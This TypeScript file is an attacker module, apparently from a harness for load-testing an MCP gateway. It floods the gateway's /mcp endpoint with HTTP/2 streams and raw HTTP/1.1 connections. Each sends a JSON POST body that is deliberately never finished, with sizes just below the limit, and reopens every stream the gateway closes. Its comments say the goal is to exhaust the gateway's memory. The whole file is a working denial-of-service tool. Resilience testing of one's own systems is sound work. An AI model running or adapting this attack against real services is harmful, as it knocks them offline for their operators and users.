// No token, and bodies without their end: as many streams as the gateway lets a connection have, over HTTP/2 and HTTP/1.1.
// A stream that is ended by the gateway is opened anew, a second later.
import { connect as connectTcp } from "node:net";
import type { ClientHttp2Session, Settings } from "node:http2";
import { setTimeout as delay } from "node:timers/promises";
import { Bucket, openSession, runAttacker, type AttackTask, type Counts } from "./attacker.ts";

export interface UnfinishedBodies extends AttackTask {
  readonly http2Connections: number;
  readonly http1Connections: number;
  /** Sizes to send, short of the end, in turn: one of them is just below the limit. */
  readonly sizes: readonly number[];
  /** The width of the attacker's link. */
  readonly bytesPerSecond: number;
}

/** Before a stream is opened anew: memory is what this attack is after, not a rate of requests. */
const PAUSE_MS = 1000;
const PIECE = Buffer.alloc(16 * 1024, 32);

runAttacker((task: UnfinishedBodies, counts) => {
  const link = new Bucket(task.bytesPerSecond);
  let turn = 0;
  const size = () => task.sizes[(turn += 1) % task.sizes.length] ?? 0;
  for (let i = 0; i < task.http2Connections; i += 1) void http2Connection(task, { link, size, counts });
  for (let i = 0; i < task.http1Connections; i += 1) void http1Connection(task, { link, size, counts });
});

interface Means {
  readonly link: Bucket;
  readonly size: () => number;
  readonly counts: Counts;
}

async function http2Connection(task: UnfinishedBodies, means: Means): Promise<never> {
  for (;;) {
    const session = openSession(task);
    session.on("error", () => means.counts.add("connection lost"));
    await new Promise<void>((done) => {
      session.once("close", done);
      session.once("remoteSettings", ({ maxConcurrentStreams }: Settings) => {
        means.counts.add("connections");
        const streams = Math.min(maxConcurrentStreams ?? 100, 100);
        for (let i = 0; i < streams; i += 1) void streamsOf(session, means);
      });
    });
    await delay(200);
  }
}

/** One stream after the other, each held until the gateway ends it. */
async function streamsOf(session: ClientHttp2Session, { link, size, counts }: Means): Promise<void> {
  while (!session.destroyed && !session.closed) {
    const stream = session.request({ ":method": "POST", ":path": "/mcp", "content-type": "application/json" });
    const closed = new Promise((done) => stream.on("close", done));
    stream.on("error", () => counts.add("streams reset"));
    stream.on("response", (headers) => counts.add(String(headers[":status"])));
    stream.resume();
    counts.add("streams");
    for (let left = size(); left > 0 && !stream.destroyed; left -= PIECE.length) {
      await link.take(PIECE.length);
      await Promise.race([closed, new Promise((done) => stream.write(PIECE, done))]);
      counts.add("MiB", PIECE.length / 1024 / 1024);
    }
    await closed;
    await delay(PAUSE_MS);
  }
}

async function http1Connection(task: UnfinishedBodies, { link, size, counts }: Means): Promise<never> {
  const { hostname, port } = new URL(task.gateway);
  for (;;) {
    const bytes = size();
    const socket = connectTcp({ host: hostname, port: Number(port), localAddress: task.source });
    const closed = new Promise((done) => socket.on("close", done));
    socket.on("error", () => counts.add("connection lost"));
    socket.on("data", (data) => counts.add(/^HTTP\/1\.1 (\d+)/.exec(data.toString("latin1"))?.[1] ?? "data"));
    const head = `POST /mcp HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: ${bytes + 64}\r\n\r\n`;
    socket.write(head);
    counts.add("HTTP/1.1 requests");
    for (let left = bytes; left > 0 && !socket.destroyed; left -= PIECE.length) {
      await link.take(PIECE.length);
      await Promise.race([closed, new Promise((done) => socket.write(PIECE, done))]);
      counts.add("MiB", PIECE.length / 1024 / 1024);
    }
    await closed;
    await delay(PAUSE_MS);
  }
}
